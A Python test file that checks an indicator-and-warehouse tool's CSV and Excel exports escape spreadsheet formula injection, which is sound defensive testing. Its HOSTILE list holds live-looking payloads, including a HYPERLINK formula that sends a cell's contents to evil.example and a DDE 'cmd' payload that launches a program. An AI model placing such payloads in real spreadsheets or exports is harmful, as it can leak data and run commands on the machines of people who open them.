"""Spreadsheet formula injection: a text cell beginning =, +, -, @, tab or carriage return is written with a
leading apostrophe in every CSV and Excel export (indicator results, `openpeel warehouse export`), so a
spreadsheet shows it as text instead of running it. Numbers stay numbers."""

from __future__ import annotations

import csv

import pyarrow as pa
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from openpeel.cli import app
from openpeel.indicators.export import export, neutralise
from openpeel.warehouse import connect
from openpeel.warehouse.sql import FORMULA_START

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"]


@given(st.lists(st.text(max_size=12) | st.none(), max_size=8))
def test_neutralise_prefixes_exactly_the_cells_a_spreadsheet_would_run(texts):
    out = neutralise(pa.table({"text": pa.array(texts, pa.string())}))["text"].to_pylist()
    for before, after in zip(texts, out, strict=True):
        assert after == ("'" + before if before and before.startswith(FORMULA_START) else before)


def hostile_warehouse(demo_warehouse, copy_of):
    path = copy_of(demo_warehouse)
    con = connect(path)
    con.execute(
        "UPDATE indicator_assessment SET statements = ? "
        "WHERE indicator_id = 'asb-per-1000' AND force_id = 'cambridgeshire' AND period = '2019-01-01'",
        [HOSTILE],
    )
    for i, text in enumerate(HOSTILE):
        con.execute("INSERT INTO quarantine VALUES ('hostile', ?, 'Location', ?, 'must be text', '{}')", [i + 2, text])
    con.close()
    return path


def test_indicator_csv_and_excel_exports_defuse_formulas(demo_warehouse, copy_of, tmp_path):
    con = connect(hostile_warehouse(demo_warehouse, copy_of), read_only=True)
    export(con, tmp_path / "indicators.csv", "csv")
    export(con, tmp_path / "indicators.xlsx", "xlsx")
    con.close()
    rows = list(csv.DictReader(open(tmp_path / "indicators.csv", newline="")))
    row = next(
        r
        for r in rows
        if (r["indicator_id"], r["force_id"], r["period"]) == ("asb-per-1000", "cambridgeshire", "2019-01-01")
    )
    assert row["statements"].startswith("'=HYPERLINK")
    sheet = load_workbook(tmp_path / "indicators.xlsx").active
    header = [c.value for c in sheet[1]]
    cells = [r[header.index("statements")] for r in sheet.iter_rows(min_row=2) if r[0].value == "asb-per-1000"]
    hostile = next(c for c in cells if c.value and "HYPERLINK" in c.value)
    assert hostile.data_type == "s" and hostile.value.startswith("'=")  # text, not a formula
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    values = [r[header.index("value")].value for r in sheet.iter_rows(min_row=2)]
    assert any(isinstance(v, float) for v in values)  # numbers are still numbers


def test_warehouse_csv_export_defuses_formulas_and_parquet_keeps_the_data(demo_warehouse, copy_of, tmp_path):
    path = hostile_warehouse(demo_warehouse, copy_of)
    for fmt in ("csv", "parquet"):
        result = CliRunner().invoke(
            app,
            [
                "warehouse",
                "export",
                str(tmp_path / fmt),
                "--format",
                fmt,
                "--table",
                "quarantine",
                "--warehouse",
                str(path),
            ],
        )
        assert result.exit_code == 0, result.output
    rows = [
        r for r in csv.DictReader(open(tmp_path / "csv" / "quarantine.csv", newline="")) if r["file_key"] == "hostile"
    ]
    assert sorted(r["value"] for r in rows) == sorted("'" + t for t in HOSTILE)
    con = connect(":memory:")
    kept = con.execute(
        "SELECT value FROM read_parquet(?) WHERE file_key = 'hostile'",
        [str(tmp_path / "parquet" / "quarantine.parquet")],
    ).fetchall()
    assert sorted(v for (v,) in kept) == sorted(HOSTILE)
